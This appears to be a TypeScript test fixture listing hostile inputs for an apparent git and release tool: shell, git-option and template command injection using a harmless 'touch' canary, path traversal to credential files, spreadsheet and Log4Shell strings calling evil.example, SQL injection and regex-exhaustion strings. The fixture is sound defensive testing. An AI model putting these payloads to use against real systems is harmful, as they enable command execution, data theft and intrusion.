/** Hostile texts, by what they try (6-faults abuses 17, 18, 20, 21, 26). Those that run a command would make a file. */
import { misleadingTexts } from './misleading';

/** @param canary path of the file that must never come to be; without characters that a shell minds */
export function hostileTexts(canary: string): readonly string[] {
  const touch = `touch ${canary}`;
  return [
    ...shell(touch, canary),
    ...gitOptions(touch, canary),
    ...gitNames(touch),
    ...traversal(),
    ...misleadingTexts(),
    ...spreadsheet(touch),
    ...templates(touch),
    ...data(),
    ...slow(),
  ];
}

const shell = (touch: string, canary: string): readonly string[] => [
  ...[
    `$(${touch})`,
    `\`${touch}\``,
    `;${touch}`,
    `; ${touch} #`,
    `|${touch}`,
    `||${touch}`,
    `&${touch}`,
    `&& ${touch}`,
  ],
  ...[`\n${touch}\n`, `\r\n${touch}\r\n`, `'; ${touch}; '`, `"; ${touch}; "`, `x';${touch};'`, `x";${touch};"`],
  ...[
    `"$(${touch})"`,
    `'$(${touch})'`,
    `\\$(${touch})`,
    `$'\\x24(${touch})'`,
    `\${x:-$(${touch})}`,
    `$((\`${touch}\`))`,
  ],
  ...[`<(${touch})`, `>(${touch})`, `> ${canary}`, `>> ${canary}`, `2> ${canary}`, `>|${canary}`, `{touch,${canary}}`],
  ...[`touch\${IFS}${canary}`, `$IFS$9${touch}`, `eval ${touch}`, `exec ${touch}`, `sh -c '${touch}'`, `!${touch}`],
  ...[
    `feat/$(${touch})`,
    `feat/;${touch}`,
    `feat/\`${touch}\``,
    `fix/1$(touch\${IFS}${canary})`,
    `a;touch\${IFS}${canary};b`,
  ],
  ...[
    `() { :; }; ${touch}`,
    `%0a${touch}`,
    `\\n${touch}`,
    `~/.ssh/id_rsa`,
    '*',
    '?',
    '[a-z]*',
    '$HOME',
    '${PATH}',
    '$$',
    '!!',
  ],
];

const gitOptions = (touch: string, canary: string): readonly string[] =>
  [
    ...[
      '--upload-pack',
      '--upload-pac',
      '--upload-pa',
      '--upload-p',
      '--upload',
      '--receive-pack',
      '--receive-p',
      '--exec',
    ],
    ...['--exe', '--open-files-in-pager', '--config', '--template', '--output', '--outp', '--git-dir', '--work-tree'],
  ]
    .map((option) => `${option}=${option.startsWith('--out') ? canary : touch}`)
    .concat(
      [
        `-u${touch}`,
        `-u ${touch}`,
        `-O${touch}`,
        `-o ${canary}`,
        `-oProxyCommand=${touch}`,
        `-c core.sshCommand=${touch}`,
      ],
      [
        `-ccore.fsmonitor=${touch}`,
        `--config-env=core.pager=PATH`,
        `-c alias.x=!${touch}`,
        '--no-index',
        '--help',
        '--',
      ],
      ['-', '-x', '--end-of-options', '--separate-git-dir=/tmp', '--recurse-submodules', '-rf', '--force', '--delete'],
    );

const gitNames = (touch: string): readonly string[] => [
  ...[`ext::sh -c '${touch}'`, `ext::${touch}`, 'fd::17', 'file:///etc/passwd', `ssh://-oProxyCommand=${touch}/x`],
  ...[
    `git@-oProxyCommand=${touch}:x`,
    'refs/heads/../../config',
    '@{-1}',
    '@{u}',
    '@',
    'HEAD',
    'HEAD~1',
    'HEAD^{/fix}',
  ],
  ...[
    'main..evil',
    'main...evil',
    '^main',
    'main:package.json',
    ':/fix',
    ':(attr:x)',
    'x.lock',
    'a/b.lock/c',
    '.hidden',
  ],
  ...[
    'a/.b',
    'x..y',
    'x//y',
    'x/',
    '/x',
    'x.',
    'a b',
    'a~b',
    'a^b',
    'a:b',
    'a?b',
    'a*b',
    'a[b',
    'a\\b',
    'refs/tidegate/../heads/main',
  ],
];

const traversal = (): readonly string[] => [
  ...[
    '../../etc/passwd',
    '..',
    '.',
    './',
    '..\\..\\windows\\win.ini',
    '/etc/passwd',
    'C:\\boot.ini',
    '\\\\host\\share',
  ],
  ...[
    '%2e%2e%2f%2e%2e%2fetc',
    '%252e%252e%252f',
    '..%c0%af..',
    '..%00/',
    'a/../../b',
    '....//....//etc',
    '..;/',
    '.../...',
  ],
  ...[
    'release_1.4.3_prod_2026-11-20-2200/../../x',
    'release_1.4.3_prod_2026-11-20-2200.md/..',
    '.git/config',
    '.env.prod',
  ],
  ...[
    '/proc/self/environ',
    '/dev/stdin',
    'file\0.md',
    'con',
    'nul',
    'aux.md',
    'a'.repeat(4_096),
    `${'../'.repeat(200)}x`,
  ],
];

const spreadsheet = (touch: string): readonly string[] => [
  ...[
    "=cmd|' /C calc'!A0",
    `=SYSTEM("${touch}")`,
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '=HYPERLINK("https://evil.example")',
    '\t=1',
    '\r=1',
  ],
  ...['"=1"', ';=1', ',=1', '=IMPORTXML("https://evil.example","//a")', '%=1', '|=1'],
];

const templates = (touch: string): readonly string[] => [
  ...[
    '{{version}}',
    '{{bug}}',
    '{{constructor.constructor("return process")()}}',
    '${7*7}',
    '#{7*7}',
    '<%= process.exit() %>',
  ],
  ...[
    `<%~ require('child_process').execSync('${touch}') %>`,
    '{% raw %}',
    '%s%s%s%n',
    '%d',
    '{0}',
    '$&',
    "$'",
    '$`',
    '$1',
    '\\1',
  ],
  ...['${jndi:ldap://evil.example/x}', '${env:PATH}', 'file:/etc/passwd', '%PATH%', '@@version'],
];

const data = (): readonly string[] => [
  ...[
    "'; DROP TABLE bug; --",
    "' OR '1'='1",
    '1; DELETE FROM event',
    "\\'; --",
    '%',
    '_',
    '!%',
    "x' UNION SELECT 1 --",
  ],
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'null',
    'undefined',
    'true',
    'NaN',
    'Infinity',
    '-0',
  ],
  ...[
    '1e309',
    '0x10',
    '9'.repeat(400),
    '{"verb":"approve-prod"}',
    '[]',
    '{}',
    '""',
    ' ',
    '\t',
    'nobody',
    'tidegate',
    'operator via Temporal',
  ],
];

/** What a regular expression that goes back and forth would choke on. */
const slow = (): readonly string[] => [
  ...['a'.repeat(50_000), `${'a'.repeat(50_000)}!`, ' '.repeat(50_000), `${'\t '.repeat(20_000)}x`, '-'.repeat(50_000)],
  ...['password='.repeat(5_000), `${'ey'.repeat(20_000)}.`, `https://${'a:'.repeat(20_000)}`, '\u001b['.repeat(20_000)],
  ...[`-----BEGIN PRIVATE KEY-----${'a'.repeat(50_000)}`, '('.repeat(50_000), '\\'.repeat(50_000), '_a'.repeat(20_000)],
];
